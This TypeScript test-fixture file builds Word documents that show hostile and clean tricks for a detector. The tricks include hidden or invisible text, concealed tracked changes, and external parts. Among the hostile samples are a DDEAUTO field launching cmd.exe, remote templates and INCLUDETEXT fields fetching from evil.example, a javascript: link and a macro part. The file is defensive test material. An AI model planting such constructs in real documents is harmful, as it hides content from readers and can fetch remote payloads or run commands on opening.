import { paragraph, run, table } from '../officeFiles.ts'
import type { Forgery } from './forgery.ts'
import { wordPaper } from './wordPaper.ts'

const WORDS = 'Larkfield also deployed SharePoint Online.'

/** Words with run properties. */
const looking = (properties: string) => (): Uint8Array => wordPaper(paragraph(run(WORDS, properties)))
const inCell = (fill: string, colour: string) => (): Uint8Array =>
  wordPaper(
    table([
      `<w:tcPr><w:shd w:fill="${fill}"/></w:tcPr>${paragraph(run(WORDS, `<w:color w:val="${colour}"/>`))}`,
    ]),
  )
/** A text box this far from the page's left edge, in points. */
const boxAt = (x: number) => (): Uint8Array =>
  wordPaper(
    paragraph(
      `<w:r><w:drawing><wp:anchor><wp:positionH relativeFrom="page"><wp:posOffset>${x * 12_700}</wp:posOffset></wp:positionH><wp:extent cx="2540000" cy="254000"/><a:graphic><a:graphicData><w:txbxContent>${paragraph(WORDS)}</w:txbxContent></a:graphicData></a:graphic></wp:anchor></w:drawing></w:r>`,
    ),
  )
const HIDDEN_STYLE =
  '<w:style w:styleId="Unseen" w:type="character"><w:rPr><w:vanish/></w:rPr></w:style><w:style w:styleId="Quiet" w:type="character"><w:rPr><w:color w:val="595959"/></w:rPr></w:style>'

const deleted = (text: string): string => `<w:r><w:delText xml:space="preserve">${text}</w:delText></w:r>`
const BY = 'w:author="Owen Blake" w:date="2026-04-12T10:00:00Z"'

const linked =
  (kind: string, target: string, external = true) =>
  (): Uint8Array =>
    wordPaper('', { links: [{ id: 'rX', kind, target, external }] })
const field = (code: string, result: string): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`

/** Tricks of Word files. */
export const OFFICE_FORGERIES: readonly Forgery[] = [
  {
    kind: 'docx_hidden_text',
    hostile: {
      'a switch': looking('<w:vanish/>'),
      'white letters': looking('<w:color w:val="FFFFFF"/>'),
      'letters of one point': looking('<w:sz w:val="2"/>'),
      'letters squeezed to nothing': looking('<w:w w:val="1"/>'),
      'letters without ink': looking('<w14:textFill><w14:noFill/></w14:textFill>'),
      'a style that hides': () =>
        wordPaper(paragraph(run(WORDS, '<w:rStyle w:val="Unseen"/>')), { styles: HIDDEN_STYLE }),
      'the colour of their cell': inCell('1F3864', '203A66'),
      'a text box beside the page': boxAt(-4000),
      'words under a name that Word passes over': () =>
        wordPaper(`<w:p><w:r><w:t>Done.</w:t><z:t xmlns:z="urn:z">${WORDS}</z:t></w:r></w:p>`),
      'a paragraph under a name that Word passes over': () =>
        wordPaper(`<z:p xmlns:z="urn:z">${paragraph(WORDS)}</z:p>`),
      'a switch that another name seems to take back': looking(
        '<w:vanish w:val="1" z:val="0" xmlns:z="urn:z"/>',
      ),
    },
    clean: {
      'white letters in a dark cell': inCell('1F3864', 'FFFFFF'),
      'letters of seven points': looking('<w:sz w:val="14"/>'),
      'narrow letters': looking('<w:w w:val="80"/>'),
      'a switch that is off': looking('<w:vanish w:val="0"/>'),
      'a style of grey letters': () =>
        wordPaper(paragraph(run(WORDS, '<w:rStyle w:val="Quiet"/>')), { styles: HIDDEN_STYLE }),
      'a text box on the page': boxAt(200),
      'a mark of another program that holds no words': () =>
        wordPaper(`<z:mark xmlns:z="urn:z" z:at="5"/>${paragraph(WORDS)}`),
      'a look of a later Word': looking('<w14:ligatures w14:val="standard"/>'),
    },
  },
  {
    kind: 'tracked_changes',
    hostile: {
      'words that were struck out': () =>
        wordPaper(
          paragraph(run('The work is '), `<w:del w:id="1" ${BY}>${deleted('not ')}</w:del>`, run('done.')),
        ),
      'one product put for another': () =>
        wordPaper(
          paragraph(
            run('Larkfield migrated '),
            `<w:del w:id="1" ${BY}>${deleted('Exchange Server 2016')}</w:del>`,
            `<w:ins w:id="2" ${BY}>${run('SharePoint Online')}</w:ins>`,
          ),
        ),
      'words that were moved': () =>
        wordPaper(
          paragraph(`<w:moveFrom w:id="1" ${BY}>${run(WORDS)}</w:moveFrom>`) +
            paragraph(`<w:moveTo w:id="2" ${BY}>${run(WORDS)}</w:moveTo>`),
        ),
      'words that were only put in': () =>
        wordPaper(paragraph(`<w:ins w:id="1" ${BY}>${run(WORDS)}</w:ins>`)),
    },
    clean: {
      'words with a line through them': looking('<w:strike/>'),
      'a changed look': looking(`<w:b/><w:rPrChange w:id="1" ${BY}><w:rPr/></w:rPrChange>`),
      'an empty change': () => wordPaper(paragraph(run(WORDS), `<w:ins w:id="1" ${BY}></w:ins>`)),
    },
  },
  {
    kind: 'external_parts',
    hostile: {
      'a template from elsewhere': linked('attachedTemplate', 'https://evil.example/t.dotm'),
      'a picture from elsewhere': linked('image', 'https://evil.example/p.png'),
      'an object on another machine': linked('oleObject', 'file://server/x.doc'),
      'a part in another format': linked('aFChunk', 'chunk.html', false),
      'a field that starts a program': () => wordPaper(paragraph(field(' DDEAUTO c:\\\\cmd.exe ', 'x'))),
      'a field that fetches text': () =>
        wordPaper(paragraph(field(' INCLUDETEXT "https://evil.example/t.docx" ', 'x'))),
      'a picture of this machine': linked('image', 'file:///C:/pictures/p.png'),
      'a picture from elsewhere that says it is within': linked('image', 'https://evil.example/p.png', false),
      'a document that stands in it': linked('subDocument', 'other.docx', false),
      'a field that takes a picture of this machine': () =>
        wordPaper(paragraph(field(' INCLUDEPICTURE "file:///C:/p.png" ', 'x'))),
      'a field that takes a table of another file': () =>
        wordPaper(paragraph(field(' LINK Excel.Sheet.12 "C:\\\\b.xlsx" A1 ', 'x'))),
      'a link that runs a script': linked('hyperlink', 'javascript:alert(1)'),
      'a link that brings its page along': linked('hyperlink', 'data:text/html,hello'),
      macros: () => wordPaper('', { parts: { 'word/vbaProject.bin': 'x' } }),
    },
    clean: {
      'a link to a site': () =>
        wordPaper(paragraph(`<w:hyperlink r:id="rX">${run('our page')}</w:hyperlink>`), {
          links: [{ id: 'rX', kind: 'hyperlink', target: 'https://www.larkfield.example/', external: true }],
        }),
      'a link to a mail address': linked('hyperlink', 'mailto:karin.vogt@ottermill.example'),
      'a field that shows a picture of its own': () =>
        wordPaper(paragraph(field(' INCLUDEPICTURE "media/p.png" ', 'x'))),
      'the number of a page': () => wordPaper(paragraph(field(' PAGE ', '1'))),
      'a header of its own': () =>
        wordPaper('<w:sectPr><w:headerReference r:id="rX"/></w:sectPr>', {
          links: [{ id: 'rX', kind: 'header', target: 'header1.xml' }],
          parts: {
            'word/header1.xml': `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${paragraph('Larkfield Systems Ltd')}</w:hdr>`,
          },
        }),
    },
  },
]
